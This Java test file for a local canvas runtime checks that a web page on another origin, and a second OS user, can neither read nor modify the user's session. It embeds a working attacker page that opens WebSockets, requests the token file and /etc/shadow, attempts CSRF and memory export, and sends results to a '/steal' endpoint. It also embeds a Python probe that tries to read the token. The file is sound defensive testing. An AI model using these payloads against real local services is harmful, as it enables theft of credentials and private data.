package clay.runtime.canvas;

import static clay.canvas.browser.Browser.js;
import static clay.canvas.browser.Browser.waitFor;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import clay.canvas.browser.Browser;
import clay.canvas.hub.SurfaceHub;
import clay.core.Token;
import clay.runtime.RuntimeFixture;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The canvas socket attacked from outside the user's session: a web page on another origin in a real Chromium that
 * already holds the user's canvas cookie, and a real second OS user on this machine. Both get nothing and change nothing.
 */
class CanvasForeignClientsTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    @TempDir static Path dir;
    static RuntimeFixture clay;
    static int port;

    @BeforeAll
    static void start() throws Exception {
        clay = RuntimeFixture.start(dir);
        port = clay.runtime.port();
    }

    @AfterAll
    static void stop() {
        clay.close();
    }

    /** What the attacker's page tries, with the user's canvas open in the same browser (so the cookie is there). */
    private static String evilPage(int clayPort, String tokenFile) {
        return """
                <!doctype html><title>cute cats</title><script>
                const results = [];
                const steal = d => fetch('/steal', {method: 'POST', body: String(d)});
                const socket = url => new Promise(done => {
                  let ws;
                  try { ws = new WebSocket(url); } catch (e) { results.push('throw ' + url); return done(); }
                  ws.onopen = () => {
                    results.push('open ' + url);
                    ws.send(JSON.stringify({type: 'action', intent: 'open_document', parameters: {file_names: ['TOKEN_FILE', '/etc/shadow']}}));
                    ws.send(JSON.stringify({type: 'action', intent: 'forget', parameters: {}}));
                  };
                  ws.onmessage = e => { results.push('message'); steal(e.data); };
                  ws.onclose = () => { results.push('closed ' + url); done(); };
                });
                const csrf = fetch('http://127.0.0.1:PORT/api/canvas/main/surfaces', {method: 'POST', mode: 'no-cors', credentials: 'include',
                    headers: {'Content-Type': 'text/plain'}, body: '{"intent":"show_text","parameters":{"title":"planted","text":"by the page"}}'})
                  .then(() => results.push('csrf sent'), () => results.push('csrf failed'));
                const read = fetch('http://127.0.0.1:PORT/api/memory/export', {credentials: 'include'})
                  .then(r => r.text()).then(t => { results.push('read'); steal(t); }, () => results.push('read blocked'));
                Promise.all([socket('ws://127.0.0.1:PORT/api/canvas/ws?session=main'), socket('ws://localhost:PORT/api/canvas/ws?session=main'),
                             socket('ws://127.0.0.1:PORT/api/canvas/ws?session=main&token=guess'), csrf, read])
                  .then(() => { document.title = 'done ' + JSON.stringify(results); });
                </script>""".replace("PORT", String.valueOf(clayPort)).replace("TOKEN_FILE", tokenFile);
    }

    @Test
    void aPageOnAnotherOriginGetsNothingFromTheCanvasSocket() throws Exception {
        // the user's own canvas first: the browser now holds the HttpOnly, SameSite=Strict cookie
        Browser.shared().get("http://127.0.0.1:" + port + "/?token=" + clay.token + "&session=main");
        waitFor(d -> "connected".equals(js("return document.getElementById('status').textContent")));
        SurfaceHub hub = clay.runtime.context().service(SurfaceHub.class).orElseThrow();
        clay.post("/api/canvas/main/surfaces", "{\"intent\":\"show_text\",\"parameters\":{\"title\":\"secret plan\",\"text\":\"the user's secret plan\"}}");
        Browser.waitVersion(hub.session("main").version());
        long version = hub.session("main").version();

        // 127.0.0.1 on another port is the same site (the cookie goes along); 127.0.0.2 is another site
        for (String evilHost : List.of("127.0.0.1", "127.0.0.2")) {
            Queue<String> stolen = new ConcurrentLinkedQueue<>();
            HttpServer evil = HttpServer.create(new InetSocketAddress(evilHost, 0), 0);
            byte[] page = evilPage(port, Token.file(clay.home).toString()).getBytes(StandardCharsets.UTF_8);
            evil.createContext("/", x -> {
                if (x.getRequestURI().getPath().equals("/steal")) stolen.add(new String(x.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
                x.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
                x.sendResponseHeaders(200, page.length);
                x.getResponseBody().write(page);
                x.close();
            });
            evil.start();
            try {
                Browser.shared().get("http://" + evilHost + ":" + evil.getAddress().getPort() + "/");
                String title = waitFor(d -> d.getTitle().startsWith("done") ? d.getTitle() : null);
                assertThat(title).as(evilHost).doesNotContain("open ").doesNotContain("message").doesNotContain("\"read\"");
                assertThat(stolen).as(evilHost).isEmpty();
            } finally {
                evil.stop(0);
            }
        }
        assertThat(hub.session("main").version()).as("nothing changed on the user's canvas").isEqualTo(version);
        assertThat(hub.session("main").surfaces().toString()).doesNotContain("planted").doesNotContain(clay.token);
    }

    @Test
    void anotherUserOnThisMachineGetsNothing() throws Exception {
        assumeTrue("root".equals(System.getProperty("user.name")), "SKIPPED LOUDLY: creating a second OS user needs root");
        assumeTrue(Files.isExecutable(Path.of("/usr/sbin/useradd")) && Files.isExecutable(Path.of("/usr/sbin/runuser")),
                "SKIPPED LOUDLY: useradd and runuser are needed to act as a second OS user");
        String user = "claytest" + HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextInt()).substring(0, 6);
        run("/usr/sbin/useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", user);
        try {
            String probe = """
                    import json, socket, sys, urllib.request
                    port, token_file = int(sys.argv[1]), sys.argv[2]
                    out = {}
                    try:
                        out['token'] = open(token_file).read()
                    except OSError as e:
                        out['token'] = 'denied: ' + type(e).__name__
                    def upgrade(headers):
                        s = socket.create_connection(('127.0.0.1', port), timeout=10)
                        s.sendall(('GET /api/canvas/ws?session=main HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\nUpgrade: websocket\\r\\n'
                                   'Connection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n%s\\r\\n'
                                   % (port, headers)).encode())
                        line = s.makefile('rb').readline().decode().strip()
                        s.close()
                        return line
                    out['ws'] = upgrade('')
                    out['ws_origin'] = upgrade('Origin: http://127.0.0.1:%d\\r\\n' % port)
                    out['health'] = json.loads(urllib.request.urlopen('http://127.0.0.1:%d/api/health' % port, timeout=10).read())
                    try:
                        urllib.request.urlopen('http://127.0.0.1:%d/api/memory/export' % port, timeout=10)
                        out['export'] = 'open'
                    except urllib.error.HTTPError as e:
                        out['export'] = e.code
                    print(json.dumps(out))
                    """;
            String printed = run("/usr/sbin/runuser", "-u", user, "--", "python3", "-c", probe, String.valueOf(port), Token.file(clay.home).toString());
            JsonNode seen = JSON.readTree(printed);
            assertThat(seen.path("token").asText()).startsWith("denied");
            assertThat(seen.path("ws").asText()).startsWith("HTTP/1.1 401");
            assertThat(seen.path("ws_origin").asText()).startsWith("HTTP/1.1 401");
            assertThat(seen.path("health").properties()).extracting(java.util.Map.Entry::getKey).containsExactlyInAnyOrder("status", "version");
            assertThat(seen.path("export").asInt()).isEqualTo(401);
        } finally {
            run("/usr/sbin/userdel", user);
        }
    }

    private static String run(String... cmd) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        if (!p.waitFor(60, TimeUnit.SECONDS)) p.destroyForcibly();
        assertThat(p.exitValue()).as(String.join(" ", cmd) + ": " + out).isZero();
        return out;
    }
}
